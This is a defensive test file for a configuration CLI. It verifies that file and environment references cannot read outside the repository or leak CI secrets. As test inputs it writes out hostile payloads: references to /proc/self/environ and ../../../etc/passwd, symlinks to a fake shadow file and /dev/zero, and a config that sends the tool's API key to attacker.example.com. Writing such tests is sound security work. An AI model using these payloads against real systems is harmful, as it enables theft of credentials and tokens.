/**
 * Confined references, attacked as a pull request would: `${file:}` reading the CI machine (absolute paths, `..`,
 * symlinks, FIFOs, devices, directories, huge files), dwctl's own API key sent to an attacker's host as a
 * password, and a CI secret printed through a field that is not secret. Plans run against the emulator.
 */
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readReferencedFile, referenceRoot, MAX_REFERENCED_FILE_BYTES } from '../../src/config/file-reference.js';
import { resolveConfig } from '../../src/config/resolve.js';
import { API_KEY, runChecked, startWorld, type World } from '../helpers/world.js';
import { SHOP_SOURCE, yaml } from '../e2e/apply-helpers.js';

/** The shop source with one config line replaced. */
const shopWith = (field: 'user' | 'password' | 'host' | 'database', value: string): string => {
  const lines = SHOP_SOURCE.split('\n').map((line) => (line.startsWith(`      ${field}: `) ? `      ${field}: ${value}` : line));
  return yaml(lines.join('\n'));
};

const CANARY = 'canary-value-from-the-ci-environment';

let world: World;
let outside: string;
beforeAll(async () => {
  world = await startWorld();
  outside = await mkdtemp(join(tmpdir(), 'dwctl-outside-'));
  await writeFile(join(outside, 'shadow'), 'root:$6$outside-secret-hash:19000::::::\n');
});
afterAll(async () => {
  await world.close();
  await rm(outside, { recursive: true, force: true });
});

/** Database-schema calls the emulator received: none may carry what an attack tried to send. */
const schemaBodies = () => world.emulator.requests.filter((r) => r.path.includes('database_schema')).map((r) => JSON.stringify(r.body));

describe('${file:} is confined to the repository', () => {
  it('refuses /proc/self/environ in lint, offline, at the reference', async () => {
    await world.write(shopWith('user', '"${file:/proc/self/environ}"'));
    const r = await runChecked(world, ['lint', '--format', 'json'], { CANARY });
    expect(r.exitCode).toBe(1);
    const d = (JSON.parse(r.stdout) as { diagnostics: { code: string; line: number; column: number }[] }).diagnostics;
    expect(d).toEqual([expect.objectContaining({ code: 'file-reference-refused', line: 11, column: 13 })]);
    const plan = await runChecked(world, ['plan'], { CANARY });
    expect(plan.exitCode).toBe(1);
    expect(plan.stdout + plan.stderr).not.toContain(CANARY);
  });

  it.each([
    ['a path with .. out of the directory', () => `../${outside.split('/').pop()}/shadow`],
  ])('refuses %s at plan time, reads nothing', async (_name, path) => {
    await world.write(shopWith('user', `"\${file:${path()}}"`));
    world.emulator.reset();
    const r = await runChecked(world, ['plan', '--format', 'json']);
    expect(r.exitCode).toBe(1);
    const plan = JSON.parse(r.stdout) as { diagnostics: { code: string; message: string; line: number }[] };
    expect(plan.diagnostics).toEqual([expect.objectContaining({ code: 'file-reference-refused', line: 11 })]);
    expect(plan.diagnostics[0]!.message).toMatch(/leads outside warehouse\.yaml's directory/);
    expect(r.stdout + r.stderr).not.toContain('outside-secret-hash');
    expect(schemaBodies().join('')).not.toContain('outside-secret-hash');
  });

  it('refuses a symbolic link that leads outside, and one to a device', async () => {
    await symlink(join(outside, 'shadow'), join(world.dir, 'innocent.txt')).catch(() => undefined);
    await symlink('/dev/zero', join(world.dir, 'zero')).catch(() => undefined);
    for (const [name, message] of [
      ['innocent.txt', /symbolic link that leads outside/],
      ['zero', /symbolic link that leads outside/],
    ] as const) {
      await world.write(shopWith('user', `"\${file:${name}}"`));
      const r = await runChecked(world, ['plan', '--format', 'json']);
      const plan = JSON.parse(r.stdout) as { diagnostics: { code: string; message: string }[] };
      expect(plan.diagnostics.map((d) => d.code)).toEqual(['file-reference-refused']);
      expect(plan.diagnostics[0]!.message).toMatch(message);
      expect(r.stdout).not.toContain('outside-secret-hash');
    }
  });

  it('refuses a FIFO at once instead of waiting for a writer', async (context) => {
    const fifo = join(world.dir, 'pipe');
    try {
      execFileSync('mkfifo', [fifo]);
    } catch {
      context.skip('mkfifo is not available here');
    }
    await world.write(shopWith('user', '"${file:pipe}"'));
    // Were the FIFO opened for reading, this would block until the test times out.
    const r = await runChecked(world, ['plan', '--format', 'json']);
    const plan = JSON.parse(r.stdout) as { diagnostics: { code: string; message: string }[] };
    expect(plan.diagnostics.map((d) => [d.code, /named pipe/.test(d.message)])).toEqual([['file-reference-refused', true]]);
  });

  it('refuses a directory and a file over 1 MiB; reads a file in the repository', async () => {
    await mkdir(join(world.dir, 'adir'), { recursive: true });
    await writeFile(join(world.dir, 'huge.txt'), 'x'.repeat(MAX_REFERENCED_FILE_BYTES + 1));
    await writeFile(join(world.dir, 'user.txt'), 'postgres\n');
    for (const [name, expected] of [
      ['adir', /a directory, not a regular file/],
      ['huge.txt', /larger than 1 MiB/],
    ] as const) {
      await world.write(shopWith('user', `"\${file:${name}}"`));
      const r = await runChecked(world, ['plan', '--format', 'json']);
      const plan = JSON.parse(r.stdout) as { diagnostics: { code: string; message: string }[] };
      expect(plan.diagnostics.map((d) => d.code)).toEqual(['file-reference-refused']);
      expect(plan.diagnostics[0]!.message).toMatch(expected);
    }
    await world.write(shopWith('user', '"${file:user.txt}"'));
    const ok = await runChecked(world, ['plan']);
    expect(ok.exitCode, ok.stdout + ok.stderr).toBe(0);
  });

  it('takes the repository root from .git, so a file beside a nested warehouse.yaml\'s parent is allowed', async () => {
    const repo = await mkdtemp(join(tmpdir(), 'dwctl-repo-'));
    try {
      await mkdir(join(repo, '.git'));
      await mkdir(join(repo, 'infra', 'posthog'), { recursive: true });
      await mkdir(join(repo, 'secrets'));
      await writeFile(join(repo, 'secrets', 'key.json'), '{"k": "v"}');
      const dir = join(repo, 'infra', 'posthog');
      expect(referenceRoot(dir)).toBe(repo);
      expect(readReferencedFile(dir, '../../secrets/key.json')).toEqual({ ok: true, text: '{"k": "v"}' });
      expect(readReferencedFile(dir, '../../../etc/passwd')).toMatchObject({ ok: false, refused: true, problem: expect.stringMatching(/outside the repository/) });
    } finally {
      await rm(repo, { recursive: true, force: true });
    }
  });
});

describe("dwctl's own settings cannot be referenced", () => {
  it('refuses ${POSTHOG_PERSONAL_API_KEY} as a password for an attacker\'s host, and sends nothing', async () => {
    const attack = shopWith('password', '${POSTHOG_PERSONAL_API_KEY}').replace('host: ${DB_HOST}', 'host: attacker.example.com');
    await world.write(attack);
    const lint = await runChecked(world, ['lint', '--format', 'json']);
    expect((JSON.parse(lint.stdout) as { diagnostics: { code: string; line: number; column: number }[] }).diagnostics).toEqual([
      expect.objectContaining({ code: 'reserved-reference', line: 12, column: 17 }),
    ]);
    world.emulator.reset();
    const plan = await runChecked(world, ['plan']);
    expect(plan.exitCode).toBe(1);
    expect(schemaBodies().join('')).not.toContain(API_KEY);
    expect(schemaBodies()).toEqual([]);
  });

  it.each(['DWCTL_REQUEST_TIMEOUT', 'posthog_host', 'POSTHOG_CLI_TOKEN'])('refuses ${%s} (aliases and any case too)', async (name) => {
    await world.write(shopWith('password', `\${${name}}`));
    const lint = await runChecked(world, ['lint', '--format', 'json']);
    expect((JSON.parse(lint.stdout) as { diagnostics: { code: string }[] }).diagnostics.map((d) => d.code)).toEqual(['reserved-reference']);
  });

  it('is refused by the resolver too (apply resolves a saved plan\'s file without lint)', () => {
    const resolution = resolveConfig({ password: '${POSTHOG_API_KEY}' }, [], { env: () => API_KEY, file: () => ({ ok: false, problem: 'x', refused: true }) }, [], [['password']]);
    expect(resolution.unresolved.map((u) => u.code)).toEqual(['reserved-reference']);
    expect(JSON.stringify(resolution.value)).not.toContain(API_KEY);
  });
});

describe('a secret-looking variable in a field that is not secret', () => {
  const AWS = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

  it('is refused by lint and plan, and its value is printed nowhere', async () => {
    await world.write(shopWith('host', '${AWS_SECRET_ACCESS_KEY}'));
    const lint = await runChecked(world, ['lint', '--format', 'json'], { AWS_SECRET_ACCESS_KEY: AWS });
    expect((JSON.parse(lint.stdout) as { diagnostics: { code: string; line: number; column: number }[] }).diagnostics).toEqual([
      expect.objectContaining({ code: 'secret-in-plain-field', line: 8, column: 13 }),
    ]);
    for (const format of ['text', 'markdown', 'json', 'github']) {
      const r = await runChecked(world, ['plan', '--format', format, '--out', 'plan.json'], { AWS_SECRET_ACCESS_KEY: AWS });
      expect(r.exitCode).toBe(1);
      expect(r.stdout + r.stderr + r.planText).not.toContain(AWS);
    }
  });

  it('is refused by the resolver too', () => {
    const resolution = resolveConfig({ host: 'db-${GITHUB_TOKEN}' }, [], { env: () => 'ghp_secret', file: () => ({ ok: false, problem: 'x', refused: true }) }, [], [['password']]);
    expect(resolution.unresolved.map((u) => u.code)).toEqual(['secret-in-plain-field']);
  });

  it('masks the values of secret-looking variables in every output even when nothing references them', async () => {
    await world.write(shopWith('database', '${DB_NAME}'));
    // The database name is echoed in PostHog's error: here it happens to equal a CI token.
    const r = await runChecked(world, ['plan', '--format', 'json'], { DB_NAME: 'ghs_ci_token_value_123456', CI_JOB_TOKEN: 'ghs_ci_token_value_123456' });
    expect(r.stdout + r.stderr).not.toContain('ghs_ci_token_value_123456');
    // The same run without the token in the environment shows the name: the masking above is what hid it.
    const control = await runChecked(world, ['plan', '--format', 'json'], { DB_NAME: 'ghs_ci_token_value_123456' });
    expect(control.stdout + control.stderr).toContain('ghs_ci_token_value_123456');
  });
});

describe('short secrets', () => {
  it('warn short-secret at the reference, from plan', async () => {
    await world.write(shopWith('password', '${SHOP_DB_PASSWORD}'));
    const r = await runChecked(world, ['plan', '--format', 'json'], { SHOP_DB_PASSWORD: 'pw1234' });
    const plan = JSON.parse(r.stdout) as { diagnostics: { code: string; severity: string; line: number; message: string }[] };
    expect(plan.diagnostics.filter((d) => d.code === 'short-secret')).toEqual([
      expect.objectContaining({ severity: 'warning', line: 12, message: expect.stringMatching(/6 characters: masked only where it appears whole/) }),
    ]);
  });
});
